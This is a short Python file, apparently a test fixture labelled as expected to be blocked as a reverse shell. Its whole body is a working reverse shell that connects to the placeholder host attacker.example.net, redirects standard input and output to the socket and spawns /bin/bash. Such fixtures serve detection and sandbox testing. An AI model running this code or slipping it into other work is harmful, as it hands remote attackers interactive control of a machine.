# expect: BLOCKED reverse_shell
import socket
import os
import pty

HOST = "attacker.example.net"
PORT = 9001

def main():
    s = socket.socket()
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")

if __name__ == "__main__":
    main()
